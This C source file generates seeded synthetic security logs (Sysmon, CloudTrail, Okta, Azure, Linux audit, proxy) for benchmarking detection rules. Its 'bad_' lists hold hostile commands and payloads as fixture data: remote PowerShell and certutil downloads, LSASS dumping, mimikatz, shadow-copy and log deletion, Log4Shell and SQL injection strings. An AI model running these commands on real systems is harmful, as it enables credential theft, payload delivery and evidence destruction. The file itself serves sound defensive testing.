// events.c - made-up log events, for measuring: the same ones in every run.
//
//     events COUNT [SUSPECTS]
//
// Prints COUNT events as JSON Lines, about a kilobyte each, of nine log
// sources.  SUSPECTS in a thousand (30) hold what rules look for.
//
// An event is a template: ' becomes ", and <name> a text of the list of that
// name, which may hold such places itself.  In lists quotes and backslashes
// are written plainly, and escaped on their way out.

#include <inttypes.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

// clang-format off

// ---- texts ---------------------------------------------------------------

static const char *const users[] = {
    "CORP\\alice", "CORP\\bob", "CORP\\carol", "CORP\\dave", "CORP\\svc-backup",
    "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE", NULL};
static const char *const names[] = {
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", NULL};
static const char *const hosts[] = {
    "ws-<d3>.corp.example", "srv-<d2>.corp.example", "dc-0<d1>.corp.example", NULL};
static const char *const images[] = {
    "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\conhost.exe",
    "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\taskhostw.exe",
    "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\RuntimeBroker.exe",
    "C:\\Windows\\System32\\backgroundTaskHost.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
    "C:\\Program Files\\Git\\cmd\\git.exe", "C:\\Program Files\\nodejs\\node.exe",
    "C:\\Users\\<name>\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
    "C:\\ProgramData\\Agent\\collector.exe", NULL};
static const char *const commands[] = {
    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
    "\\??\\C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1",
    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
    "--field-trial-handle=<d4>,i,<d8><d8>,<d6> --lang=en-US --device-scale-factor=1 "
    "--num-raster-threads=4 --renderer-client-id=<d3> --time-ticks-at-unix-epoch=-<d8><d8>",
    "cmd.exe /c dir C:\\Users\\<name>\\Documents",
    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" "
    "\"C:\\Users\\<name>\\Documents\\report-<d4>.xlsx\"",
    "git.exe -c core.quotepath=false status --porcelain -z -uall",
    "node.exe C:\\src\\app\\node_modules\\.bin\\webpack --mode production --config <x8>.js",
    "taskhostw.exe {<guid>}",
    "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
    "\"C:\\ProgramData\\Agent\\collector.exe\" --config C:\\ProgramData\\Agent\\<x8>.yml --once",
    "powershell.exe -NoLogo -File C:\\Scripts\\inventory.ps1 -Site <d2>", NULL};
static const char *const bad_commands[] = {
    "whoami /all", "net group \"domain admins\" /domain", "nltest /domain_trusts",
    "vssadmin.exe delete shadows /all /quiet", "wevtutil cl Security",
    "powershell.exe -nop -w hidden -enc <x32><x32>",
    "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://<ip>/a.ps1')\"",
    "certutil.exe -urlcache -split -f http://<ip>/<x8>.exe C:\\Users\\Public\\<x8>.exe",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump <d4> C:\\Temp\\lsass.dmp full",
    "schtasks /create /tn <x8> /tr C:\\Users\\Public\\<x8>.exe /sc minute /ru SYSTEM",
    "reg save HKLM\\SAM C:\\Temp\\sam.save", "bitsadmin /transfer job http://<ip>/x C:\\x.exe",
    "mshta.exe http://<ip>/<x8>.hta", "wmic /node:<ip> process call create cmd.exe",
    "bcdedit /set {default} recoveryenabled no", "mimikatz.exe sekurlsa::logonpasswords exit", NULL};
static const char *const keys[] = {
    "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{<guid>}\\LeaseObtainedTime",
    "HKU\\S-1-5-21-<d8>-<d8>-<d8>-<d4>\\Software\\Microsoft\\Office\\16.0\\Excel\\Place MRU\\Item <d1>",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\DiagTrack\\HeartBeats\\Default\\<x8>",
    "HKU\\S-1-5-21-<d8>-<d8>-<d8>-<d4>\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\<d2>",
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
    "HKCR\\Local Settings\\MuiCache\\<x4>\\<x8>", NULL};
static const char *const bad_keys[] = {
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\<x8>",
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
    "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger",
    "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)", NULL};
static const char *const details[] = {
    "DWORD (0x0000000<d1>)", "QWORD (0x<x8>-0x<x8>)", "Binary Data", "(Empty)",
    "C:\\Users\\<name>\\Documents\\report-<d4>.xlsx", NULL};
static const char *const bad_details[] = {
    "DWORD (0x00000001)", "C:\\Users\\Public\\<x8>.exe", "powershell.exe -enc <x32>", NULL};
static const char *const files[] = {
    "C:\\Users\\<name>\\AppData\\Local\\Temp\\<x8>-<x4>.tmp",
    "C:\\Users\\<name>\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\f_<x8>",
    "C:\\Users\\<name>\\Documents\\report-<d4>.xlsx", "C:\\Windows\\Prefetch\\CHROME.EXE-<x8>.pf",
    "C:\\src\\app\\dist\\assets\\index-<x8>.js", "C:\\ProgramData\\Agent\\spool\\<guid>.json", NULL};
static const char *const bad_files[] = {
    "C:\\Users\\<name>\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\<x8>.vbs",
    "C:\\Windows\\Temp\\lsass.dmp", "C:\\Windows\\System32\\Tasks\\<x8>", "C:\\Users\\Public\\<x8>.hta",
    "C:\\inetpub\\wwwroot\\aspnet_client\\<x8>.aspx", "C:\\Windows\\System32\\drivers\\<x8>.sys", NULL};
static const char *const sites[] = {
    "www.example.com", "cdn<d1>.example.net", "update.example.org", "api.example.com",
    "login.example.com", "static.example.net", NULL};
static const char *const bad_sites[] = {
    "pastebin.com", "raw.githubusercontent.com", "api.telegram.org", "<x8>.ngrok.io",
    "transfer.sh", "<x8>.onion.to", "discord.com", NULL};
static const char *const ports[] = {"443", "443", "443", "80", "53", "8443", NULL};
static const char *const bad_ports[] = {"3389", "445", "4444", "5985", "88", NULL};
static const char *const agents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/12<d1>.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.<d1> Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:12<d1>.0) Gecko/20100101 Firefox/12<d1>.0", NULL};
static const char *const bad_agents[] = {
    "sqlmap/1.7#stable (https://sqlmap.org)", "python-requests/2.31.0", "curl/8.4.0", "Nikto/2.5.0",
    "Microsoft-CryptoAPI/10.0", "aria2/1.36.0", NULL};
static const char *const uris[] = {
    "/", "/index.html", "/assets/app.<x8>.js", "/api/v1/items/<d6>?page=<d1>", "/images/logo.svg",
    "/search?q=report+<d4>&lang=en", NULL};
static const char *const bad_uris[] = {
    "/.git/config", "/index.php?id=1%27%20UNION%20SELECT%20NULL--", "/cgi-bin/.%2e/.%2e/bin/sh",
    "/?x=${jndi:ldap://<ip>/a}", "/files/<x8>.hta", "/download/update.exe", NULL};
static const char *const calls[] = {
    "ec2.amazonaws.com', 'eventName': 'DescribeInstances", "s3.amazonaws.com', 'eventName': 'GetBucketAcl",
    "sts.amazonaws.com', 'eventName': 'AssumeRole", "kms.amazonaws.com', 'eventName': 'Decrypt",
    "logs.amazonaws.com', 'eventName': 'CreateLogStream", "iam.amazonaws.com', 'eventName': 'GetRole",
    "elasticloadbalancing.amazonaws.com', 'eventName': 'DescribeTargetHealth", NULL};
static const char *const bad_calls[] = {
    "cloudtrail.amazonaws.com', 'eventName': 'StopLogging", "iam.amazonaws.com', 'eventName': 'CreateAccessKey",
    "guardduty.amazonaws.com', 'eventName': 'DeleteDetector", "ec2.amazonaws.com', 'eventName': 'GetPasswordData",
    "iam.amazonaws.com', 'eventName': 'UpdateLoginProfile", "rds.amazonaws.com', 'eventName': 'ModifyDBInstance", NULL};
static const char *const okta_types[] = {
    "user.session.start", "user.authentication.sso", "policy.evaluate_sign_on", "user.authentication.auth_via_mfa",
    "app.oauth2.token.grant", "user.session.end", NULL};
static const char *const bad_okta_types[] = {
    "user.mfa.factor.deactivate", "system.api_token.create", "policy.lifecycle.deactivate", "user.account.lock",
    "group.privilege.grant", "security.threat.detected", NULL};
static const char *const results[] = {"0", "0", "0", "50140", NULL};
static const char *const bad_results[] = {"50126", "50053", "53003", "50057", "50076", NULL};
static const char *const apps[] = {
    "Office 365 Exchange Online", "Microsoft Teams", "Azure Portal", "SharePoint Online", NULL};
static const char *const programs[] = {
    "/usr/bin/ls", "/usr/bin/cat", "/usr/sbin/cron", "/usr/bin/python3.11", "/usr/bin/ssh", "/usr/bin/dpkg",
    "/usr/lib/systemd/systemd", NULL};
static const char *const bad_programs[] = {
    "/usr/bin/nmap", "/usr/bin/chattr", "/tmp/<x8>", "/usr/bin/nc", "/usr/bin/wget", "/usr/sbin/tcpdump", NULL};
static const char *const zones[] = {"eu-central-1", "us-east-1", "eu-west-1", NULL};
static const char *const ips[] = {
    "192.0.2.<d2>", "198.51.100.<d2>", "203.0.113.<d2>", "10.1.<d2>.<d2>", NULL};

typedef struct List {
    const char *name;
    const char *const *items;
    const char *const *suspect; // or NULL
    bool in_template;           // its texts are written as templates are
} List;

static const List lists[] = {
    {"user", users, NULL, false},
    {"name", names, NULL, false},
    {"host", hosts, NULL, false},
    {"image", images, NULL, false},
    {"command", commands, bad_commands, false},
    {"key", keys, bad_keys, false},
    {"details", details, bad_details, false},
    {"file", files, bad_files, false},
    {"site", sites, bad_sites, false},
    {"port", ports, bad_ports, false},
    {"agent", agents, bad_agents, false},
    {"uri", uris, bad_uris, false},
    {"call", calls, bad_calls, true},
    {"okta", okta_types, bad_okta_types, false},
    {"result", results, bad_results, false},
    {"app", apps, NULL, false},
    {"program", programs, bad_programs, false},
    {"zone", zones, NULL, false},
    {"ip", ips, NULL, false},
};

// ---- templates -----------------------------------------------------------

#define SYSMON(category, id) \
    "{'logsource':{'category':'" category "','product':'windows'}," \
    "'@timestamp':'<time>','Channel':'Microsoft-Windows-Sysmon/Operational'," \
    "'Provider_Name':'Microsoft-Windows-Sysmon','EventID':" id ",'Computer':'<host>'," \
    "'RecordNumber':<d8>,'UtcTime':'<time>','ProcessGuid':'{<guid>}','ProcessId':<d4>," \
    "'Keywords':'0x8000000000000000','Level':4,'Opcode':'Info','ThreadID':<d4>,"

static const char process[] = SYSMON("process_creation", "1")
    "'Image':'<image>','FileVersion':'10.0.19041.<d4> (WinBuild.160101.0800)','Description':'Host Process',"
    "'Product':'Microsoft Windows Operating System','Company':'Microsoft Corporation',"
    "'OriginalFileName':'<x8>.exe','CommandLine':'<command>','CurrentDirectory':'C:\\Windows\\system32\\',"
    "'User':'<user>','LogonGuid':'{<guid>}','LogonId':'0x<x8>','TerminalSessionId':<d1>,"
    "'IntegrityLevel':'Medium','Hashes':'MD5=<x32>,SHA256=<x32><x32>,IMPHASH=<x32>',"
    "'ParentProcessGuid':'{<guid>}','ParentProcessId':<d4>,'ParentImage':'<image>',"
    "'ParentCommandLine':'<image>','ParentUser':'<user>'}";
static const char registry[] = SYSMON("registry_set", "13")
    "'RuleName':'-','EventType':'SetValue','Image':'<image>','TargetObject':'<key>','Details':'<details>',"
    "'User':'<user>','Message':'Registry value set:\nRuleName: -\nEventType: SetValue\nUtcTime: <time>\n"
    "ProcessGuid: {<guid>}\nProcessId: <d4>\nImage: <image>'}";
static const char network[] = SYSMON("network_connection", "3")
    "'RuleName':'-','Image':'<image>','User':'<user>','Protocol':'tcp','Initiated':'true',"
    "'SourceIsIpv6':'false','SourceIp':'10.1.<d2>.<d2>','SourceHostname':'<host>','SourcePort':<d5>,"
    "'SourcePortName':'-','DestinationIsIpv6':'false','DestinationIp':'<ip>','DestinationHostname':'<site>',"
    "'DestinationPort':<port>,'DestinationPortName':'https','Message':'Network connection detected:\n"
    "RuleName: -\nUtcTime: <time>\nProcessGuid: {<guid>}\nProcessId: <d4>\nImage: <image>'}";
static const char file[] = SYSMON("file_event", "11")
    "'RuleName':'-','Image':'<image>','TargetFilename':'<file>','CreationUtcTime':'<time>','User':'<user>',"
    "'Message':'File created:\nRuleName: -\nUtcTime: <time>\nProcessGuid: {<guid>}\nProcessId: <d4>\n"
    "Image: <image>\nCreationUtcTime: <time>'}";
static const char trail[] =
    "{'logsource':{'product':'aws','service':'cloudtrail'},'eventVersion':'1.09','userIdentity':{"
    "'type':'AssumedRole','principalId':'AROA<x16>:<name>','arn':'arn:aws:sts::<d6><d6>:assumed-role/<name>/<x8>',"
    "'accountId':'<d6><d6>','accessKeyId':'ASIA<x16>','sessionContext':{'sessionIssuer':{'type':'Role',"
    "'principalId':'AROA<x16>','arn':'arn:aws:iam::<d6><d6>:role/<name>','userName':'<name>'},"
    "'attributes':{'creationDate':'<time>','mfaAuthenticated':'false'}}},'eventTime':'<time>',"
    "'eventSource':'<call>','awsRegion':'<zone>','sourceIPAddress':'<ip>','userAgent':'<agent>',"
    "'requestParameters':{'maxResults':<d2>,'filterSet':{'items':[{'name':'tag:env','valueSet':{'items':["
    "{'value':'prod-<d2>'}]}}]}},'responseElements':null,'requestID':'<guid>','eventID':'<guid>',"
    "'readOnly':true,'eventType':'AwsApiCall','managementEvent':true,'recipientAccountId':'<d6><d6>',"
    "'eventCategory':'Management','tlsDetails':{'tlsVersion':'TLSv1.3','cipherSuite':'TLS_AES_128_GCM_SHA256'}}";
static const char okta[] =
    "{'logsource':{'product':'okta','service':'okta'},'actor':{'id':'00u<x16>','type':'User',"
    "'alternateId':'<name>@example.com','displayName':'<name>'},'client':{'userAgent':{'rawUserAgent':'<agent>',"
    "'os':'Windows 10','browser':'CHROME'},'zone':'null','device':'Computer','ipAddress':'<ip>',"
    "'geographicalContext':{'city':'Berlin','state':'Berlin','country':'Germany','postalCode':'10<d3>'}},"
    "'displayMessage':'User login to Okta','eventType':'<okta>','eventtype':'<okta>','outcome':{'result':'SUCCESS',"
    "'reason':null},'published':'<time>','securityContext':{'asNumber':<d5>,'asOrg':'example','isp':'example',"
    "'isProxy':false},'severity':'INFO','debugContext':{'debugData':{'requestId':'<x32>','requestUri':'/api/v1/authn',"
    "'threatSuspected':'false','url':'/api/v1/authn?'}},'legacyEventType':'core.user_auth.login_success',"
    "'transaction':{'type':'WEB','id':'<x32>'},'uuid':'<guid>','version':'0','target':[{'id':'0oa<x16>',"
    "'type':'AppInstance','alternateId':'<app>','displayName':'<app>'}]}";
static const char signin[] =
    "{'logsource':{'product':'azure','service':'signinlogs'},'TimeGenerated':'<time>','OperationName':'Sign-in activity',"
    "'Category':'SignInLogs','ResultType':'<result>','ResultDescription':'','AppDisplayName':'<app>','AppId':'<guid>',"
    "'AuthenticationRequirement':'singleFactorAuthentication','ClientAppUsed':'Browser','ConditionalAccessStatus':'success',"
    "'CorrelationId':'<guid>','CreatedDateTime':'<time>','DeviceDetail':{'deviceId':'<guid>','operatingSystem':'Windows 10',"
    "'browser':'Edge 12<d1>.0.0','isCompliant':true,'isManaged':true,'trustType':'AzureAd'},'IPAddress':'<ip>',"
    "'IsInteractive':true,'LocationDetails':{'city':'Berlin','state':'Berlin','countryOrRegion':'DE'},"
    "'NetworkLocationDetails':[],'RiskDetail':'none','RiskLevelDuringSignIn':'none','RiskState':'none',"
    "'Status':{'errorCode':<result>,'additionalDetails':'MFA requirement satisfied by claim in the token'},"
    "'TokenIssuerType':'AzureAD','UserAgent':'<agent>','UserDisplayName':'<name>','UserId':'<guid>',"
    "'UserPrincipalName':'<name>@example.com','UserType':'Member'}";
static const char audit[] =
    "{'logsource':{'category':'process_creation','product':'linux'},'@timestamp':'<time>','host':'<host>','type':'SYSCALL',"
    "'arch':'c000003e','syscall':59,'SYSCALL':'execve','success':'yes','exit':0,'a0':'<x8>','a1':'<x8>','a2':'<x8>',"
    "'items':2,'ppid':<d5>,'pid':<d5>,'auid':1000,'uid':1000,'gid':1000,'euid':1000,'suid':1000,'fsuid':1000,"
    "'egid':1000,'sgid':1000,'fsgid':1000,'tty':'pts0','ses':<d3>,'comm':'<x8>','exe':'<program>','key':'exec',"
    "'Image':'<program>','CommandLine':'<program> --output /var/tmp/<x8> --verbose -n <d3>','CurrentDirectory':'/home/<name>',"
    "'User':'<name>','ParentImage':'/usr/bin/bash','ParentCommandLine':'-bash','LogonId':'<d4>',"
    "'SUBJ':'unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023','AUID':'<name>','UID':'<name>','GID':'<name>',"
    "'EUID':'<name>','SUID':'<name>','message':'audit(<d8>.<d3>:<d6>): proctitle=<x32><x32> cwd=/home/<name> nametype=NORMAL'}";
static const char proxy[] =
    "{'logsource':{'category':'proxy'},'time':'<time>','c-ip':'10.1.<d2>.<d2>','cs-username':'<name>','cs-method':'GET',"
    "'cs-host':'<site>','c-uri':'<uri>','c-uri-query':'page=<d1>&session=<x32>','c-uri-extension':'html',"
    "'c-uri-stem':'<uri>','r-dns':'<site>','r-ip':'<ip>','dst_ip':'<ip>','c-useragent':'<agent>','cs-cookie':'sid=<x32>; lang=en',"
    "'cs-referrer':'https://www.example.com/<x8>','cs-version':'HTTP/1.1','cs-bytes':<d4>,'sc-bytes':<d6>,"
    "'sc-status':200,'s-action':'TCP_MISS','s-hierarchy':'DIRECT','rs-content-type':'text/html','time-taken':<d3>,"
    "'x-category':'Technology','x-virus-id':'-','x-policy':'default','s-computername':'<host>','s-port':3128}";

// clang-format on

// ---- chance --------------------------------------------------------------

// splitmix64, by Sebastiano Vigna.
static uint64_t state = 1;

static uint64_t chance(uint64_t below)
{
    uint64_t z = (state += 0x9E3779B97F4A7C15u);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9u;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBu;
    return (z ^ (z >> 31)) % below;
}

static const char *one_of(const char *const *items)
{
    size_t n = 0;
    while (items[n] != NULL)
        n++;
    return items[chance(n)];
}

// ---- filling in ----------------------------------------------------------

typedef struct Event {
    size_t number;
    bool suspect;
} Event;

static void put(const Event *e, const char *text, bool plain);

static void put_digits(const char *alphabet, size_t count)
{
    size_t n = strlen(alphabet);
    for (size_t i = 0; i < count; i++) // no number begins with a zero
        putchar(alphabet[i == 0 && n == 10 ? 1 + chance(n - 1) : chance(n)]);
}

static void put_guid(void)
{
    static const size_t parts[] = {8, 4, 4, 4, 12};
    for (size_t i = 0; i < 5; i++) {
        if (i > 0)
            putchar('-');
        put_digits("0123456789abcdef", parts[i]);
    }
}

// Twenty events a second.
static void put_time(size_t number)
{
    size_t s = number / 20;
    printf("2026-05-%02zuT%02zu:%02zu:%02zu.%03zuZ", 4 + s / 86400 % 28,
           s / 3600 % 24, s / 60 % 60, s % 60, number % 20 * 50);
}

static void put_from_list(const Event *e, const char *name, size_t length)
{
    for (size_t i = 0; i < sizeof lists / sizeof lists[0]; i++) {
        const List *l = &lists[i];
        if (strlen(l->name) == length && memcmp(l->name, name, length) == 0) {
            put(e, one_of(e->suspect && l->suspect ? l->suspect : l->items),
                !l->in_template);
            return;
        }
    }
    fprintf(stderr, "events: no list '%.*s'\n", (int)length, name);
    exit(2);
}

static void put_place(const Event *e, const char *name, size_t length)
{
    bool counted = length > 1 && name[1] >= '0' && name[1] <= '9';
    if (counted && name[0] == 'd')
        put_digits("0123456789", (size_t)strtol(name + 1, NULL, 10));
    else if (counted && name[0] == 'x')
        put_digits("0123456789abcdef", (size_t)strtol(name + 1, NULL, 10));
    else if (length == 4 && memcmp(name, "guid", 4) == 0)
        put_guid();
    else if (length == 4 && memcmp(name, "time", 4) == 0)
        put_time(e->number);
    else
        put_from_list(e, name, length);
}

// 'plain': from a list, where quotes are quotes.
static void put(const Event *e, const char *text, bool plain)
{
    for (; *text != '\0'; text++) {
        if (*text == '<') {
            size_t length = strcspn(text, ">") - 1;
            put_place(e, text + 1, length);
            text += length + 1;
        } else if (*text == '\n') {
            fputs("\\n", stdout);
        } else if (*text == '\\' || (*text == '"' && plain)) {
            printf("\\%c", *text);
        } else {
            putchar(*text == '\'' && !plain ? '"' : *text);
        }
    }
}

// ---- events --------------------------------------------------------------

static void put_event(const Event *e)
{
    static const struct {
        const char *template;
        uint64_t share; // in a hundred
    } kinds[] = {{process, 25}, {registry, 15}, {network, 12},
                 {file, 13},    {trail, 10},    {okta, 5},
                 {signin, 5},   {audit, 7},     {proxy, 8}};
    uint64_t at = chance(100);
    size_t kind = 0;
    for (; at >= kinds[kind].share; kind++)
        at -= kinds[kind].share;
    put(e, kinds[kind].template, false);
    putchar('\n');
}

int main(int argc, char **argv)
{
    size_t count = argc > 1 ? strtoull(argv[1], NULL, 10) : 0;
    uint64_t suspects = argc > 2 ? strtoull(argv[2], NULL, 10) : 30;
    if (count == 0) {
        fputs("usage: events COUNT [SUSPECTS]\n", stderr);
        return 2;
    }
    for (size_t i = 0; i < count; i++) {
        Event e = {i, chance(1000) < suspects};
        put_event(&e);
    }
    return 0;
}
